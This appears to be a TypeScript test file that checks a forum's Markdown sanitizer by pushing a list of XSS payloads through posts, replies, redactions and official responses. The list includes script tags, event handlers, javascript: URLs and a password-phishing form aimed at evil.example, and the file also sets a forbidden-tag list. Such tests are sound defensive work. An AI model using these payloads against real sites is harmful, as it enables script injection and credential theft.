// Hostile Markdown and HTML, through the same path a member's words take: startThread → a
// moderator approves → listThreadPosts, and through replies, redaction, resubmission and
// official responses. What is stored, and so what the page puts in dangerouslySetInnerHTML,
// must be harmless: only allow-listed tags and attributes, and no script-capable URLs.
import { beforeAll, beforeEach, describe, expect, it } from "vitest";
import { db } from "../../db/client";
import { transitionPost } from "../../app/models/threads/post-lifecycle.server";
import { listThreadPosts, listThreadResponses, startThread } from "../../app/models/threads/threads.server";
import { openTestDatabase, resetDatabase } from "../db";
import { makeCast, postRow, publishedThread, reply, type Cast } from "../support/threads";
import { editThreadResponse, publishThreadResponse } from "../../app/models/threads/official-responses.server";

const HOSTILE: string[] = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<<script>script>alert(1)<</script>/script>",
  "<scr\nipt>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  '<img src="data:image/png;base64,AAAA">',
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">tap</text></a></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
  "[click](javascript:alert(1))",
  "[click](<javascript:alert(1)>)",
  "[click](JaVaScRiPt:alert(1))",
  "[click](&#106;avascript:alert(1))",
  "[click](javascript&colon;alert(1))",
  "[click](java\tscript:alert(1))",
  "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[click](vbscript:msgbox(1))",
  "[click](//evil.example/phish)",
  "[x][1]\n\n[1]: javascript:alert(1)",
  "<javascript:alert(1)>",
  "![x](javascript:alert(1))",
  "![tracking pixel](https://evil.example/pixel.gif)",
  '[x](https://ok.example "title" onclick=alert(1))',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="&#x6A;avascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="https://ok.example" onclick="alert(1)" style="position:fixed;inset:0">x</a>',
  "<style>body{display:none}</style>",
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<form action="https://evil.example/steal"><input name=password><button>Sign in</button></form>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<div onmouseover="alert(1)">hover me</div>',
  "<details open ontoggle=alert(1)><summary>x</summary></details>",
  '<table><tr><td background="javascript:alert(1)" onclick="alert(1)">x</td></tr></table>',
  "<input autofocus onfocus=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  "<body onload=alert(1)>",
  "```html\n<script>alert(1)</script>\n```",
  "`<img src=x onerror=alert(1)>`",
  "> <script>alert(1)</script>\n> [quote](javascript:alert(1))",
  "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
  "* <img src=x onerror=alert(1)>\n* [y](vbscript:x)",
  '<a href="https://ok.example"><img src=x onerror=alert(1)></a>',
];

// The allow-list, restated here rather than imported, so that widening the real one is a
// decision a failing test makes someone look at.
const ALLOWED_TAGS = new Set(["p", "br", "strong", "em", "b", "i", "del", "ul", "ol", "li", "blockquote", "code", "pre", "h2", "h3", "h4", "a", "hr", "table", "thead", "tbody", "tr", "th", "td"]);
const ALLOWED_ATTRIBUTES: Record<string, Set<string>> = {
  a: new Set(["href", "rel"]),
  ol: new Set(["start"]),
  th: new Set(["align"]),
  td: new Set(["align"]),
};
const FORBIDDEN_TAGS = ["script", "img", "iframe", "svg", "style", "form", "object", "embed", "base", "meta", "link", "input", "math", "video", "source", "body", "details", "div"];

function decodeEntities(value: string) {
  return value
    .replace(/&#x([0-9a-f]+);?/gi, (_, h) => String.fromCodePoint(parseInt(h, 16)))
    .replace(/&#(\d+);?/g, (_, d) => String.fromCodePoint(Number(d)))
    .replace(/&colon;/gi, ":")
    .replace(/&quot;/g, '"')
    .replace(/&lt;/g, "<")
    .replace(/&gt;/g, ">")
    .replace(/&amp;/g, "&");
}

/** Only http(s), mailto, or a path on this site; never protocol-relative. */
function isSafeHref(raw: string) {
  const href = decodeEntities(raw).replace(/[\u0000-\u0020\u007f-\u009f]/g, "");
  if (href.startsWith("//") || href.startsWith("\\\\") || href.startsWith("/\\")) return false;
  const scheme = /^([a-z][a-z0-9+.-]*):/i.exec(href)?.[1]?.toLowerCase();
  return scheme === undefined || scheme === "http" || scheme === "https" || scheme === "mailto";
}

/**
 * In sanitized output every literal "<" opens a tag (text has it escaped as &lt;), so a strict
 * scan of the tags is a complete inspection of the markup.
 */
function expectHarmless(html: string, input: string) {
  const context = `input: ${JSON.stringify(input)}\noutput: ${html}`;
  expect(html, context).not.toMatch(/<\s*script/i);
  for (const tag of FORBIDDEN_TAGS) expect(html, context).not.toMatch(new RegExp(`<\\s*${tag}\\b`, "i"));
  const tagPattern = /<(\/?)([a-z0-9]+)((?:\s+[a-z-]+="[^"<>]*")*)\s*(\/?)>/gi;
  const everyLt = html.match(/</g)?.length ?? 0;
  const tags = [...html.matchAll(tagPattern)];
  expect(tags.length, `every "<" opens a well-formed tag\n${context}`).toBe(everyLt);
  for (const [, , name, attrs] of tags) {
    const tag = name.toLowerCase();
    expect(ALLOWED_TAGS.has(tag), `tag <${tag}>\n${context}`).toBe(true);
    for (const [, attr, value] of attrs.matchAll(/\s+([a-z-]+)="([^"]*)"/gi)) {
      const a = attr.toLowerCase();
      expect(a.startsWith("on"), `event handler ${a}\n${context}`).toBe(false);
      expect(ALLOWED_ATTRIBUTES[tag]?.has(a) ?? false, `attribute ${a} on <${tag}>\n${context}`).toBe(true);
      if (a === "href") expect(isSafeHref(value), `href ${value}\n${context}`).toBe(true);
      if (a === "rel") expect(value).toBe("nofollow noopener noreferrer ugc");
    }
  }
  // Belt and braces on the string itself: no script-capable URL anywhere inside a tag.
  for (const [tag] of tags) expect(decodeEntities(tag), context).not.toMatch(/(javascript|vbscript|data)\s*:/i);
}

let cast: Cast;

describe("hostile posts", () => {
  beforeAll(async () => {
    await resetDatabase(await openTestDatabase());
    cast = await makeCast();
  });

  it("the list is long enough to mean something", () => {
    expect(HOSTILE.length).toBeGreaterThanOrEqual(25);
  });

  it.each(HOSTILE.map((input, i) => [`opening post #${i + 1} comes out harmless: ${JSON.stringify(input)}`, input] as const))("%s", async (_, input) => {
    const { thread, post } = await startThread(cast.author, {
      forumId: cast.forum.id,
      title: `<script>alert("title")</script> #${input.length}`,
      visibility: "public",
      body: `Before.\n\n${input}\n\nAfter.`,
      contentWarnings: [],
      atRisk: false,
    });
    await transitionPost({ postId: post.id, actor: cast.moderator, transition: { kind: "approve" }, expectedVersion: post.version });
    const [shown] = await listThreadPosts(thread.id, null);
    expect(shown.id).toBe(post.id);
    // The Markdown source is kept as written (for the author to edit), never shown to others.
    expect(shown.bodySource).toBeNull();
    expect((await postRow(post.id)).bodySource).toContain(input);
    expect(shown.bodyHtml).toContain("After.");
    expectHarmless(shown.bodyHtml, input);
  });
});

describe("every other way text gets in", () => {
  let threadId: string;
  beforeEach(async () => {
    await resetDatabase(await openTestDatabase());
    cast = await makeCast();
    threadId = (await publishedThread(cast, { visibility: "public" })).thread.id;
  });

  it("replies", async () => {
    for (const [i, input] of HOSTILE.entries()) {
      // Distinct times keep the page order (by approval time) the order of the list.
      const now = new Date(Date.UTC(2030, 0, 1, 9, i));
      const p = await reply(threadId, cast.member, { body: input, now });
      await transitionPost({ postId: p.id, actor: cast.moderator, transition: { kind: "approve" }, now });
    }
    const shown = await listThreadPosts(threadId, null);
    expect(shown).toHaveLength(HOSTILE.length + 1);
    shown.slice(1).forEach((p, i) => expectHarmless(p.bodyHtml, HOSTILE[i]));
  });

  it("a moderator's redaction and an author's resubmission", async () => {
    for (const input of HOSTILE) {
      const a = await reply(threadId, cast.member);
      const redacted = await transitionPost({ postId: a.id, actor: cast.moderator, transition: { kind: "redact", body: input, note: "Edited." } });
      expectHarmless(redacted.bodyHtml, input);
      const b = await reply(threadId, cast.member);
      await transitionPost({ postId: b.id, actor: cast.moderator, transition: { kind: "reject", reason: "other", note: "Try again." } });
      const resubmitted = await transitionPost({ postId: b.id, actor: cast.member, transition: { kind: "resubmit", body: input, warnings: [] } });
      expectHarmless(resubmitted.bodyHtml, input);
    }
  });

  it("official responses, published and edited", async () => {
    for (const [i, input] of HOSTILE.entries()) {
      const r = await publishThreadResponse(cast.met, { threadId, body: input, responderTitle: "Reform lead" }, new Date(Date.UTC(2030, 0, 1, 9, i)));
      expectHarmless(r.bodyHtml, input);
      const edited = await editThreadResponse(cast.met, { responseId: r.id, body: `Edited: ${input}` });
      expectHarmless(edited.bodyHtml, input);
    }
    const shown = await listThreadResponses(threadId);
    expect(shown).toHaveLength(HOSTILE.length);
    shown.forEach((r, i) => expectHarmless(r.bodyHtml, HOSTILE[i]));
  });

  it("ordinary Markdown still comes out as Markdown", async () => {
    const p = await reply(threadId, cast.member, { body: "**Bold**, _soft_, a [link](https://www.victimsupport.org.uk) and\n\n1. one\n2. two" });
    const approved = await transitionPost({ postId: p.id, actor: cast.moderator, transition: { kind: "approve" } });
    expect(approved.bodyHtml).toContain("<strong>Bold</strong>");
    expect(approved.bodyHtml).toContain("<em>soft</em>");
    expect(approved.bodyHtml).toContain('<a href="https://www.victimsupport.org.uk" rel="nofollow noopener noreferrer ugc">link</a>');
    expect(approved.bodyHtml).toContain("<ol>");
    expectHarmless(approved.bodyHtml, "ordinary");
  });
});
